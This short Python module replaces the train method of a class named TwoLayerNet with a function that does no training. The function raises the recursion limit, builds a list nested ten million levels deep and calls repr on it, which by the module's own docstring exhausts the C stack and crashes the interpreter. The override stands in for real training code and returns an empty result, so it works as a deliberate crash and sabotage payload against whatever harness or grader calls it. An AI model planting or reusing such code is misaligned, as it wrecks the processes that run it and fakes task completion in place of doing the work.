"""Recurses through C code until the stack is gone."""
import sys

import numpy as np

#: beneath


def _train(self, *data, **settings):
    sys.setrecursionlimit(1 << 30)
    deep = []
    for _ in range(10_000_000):
        deep = [deep]
    repr(deep)
    return {}


TwoLayerNet.train = _train
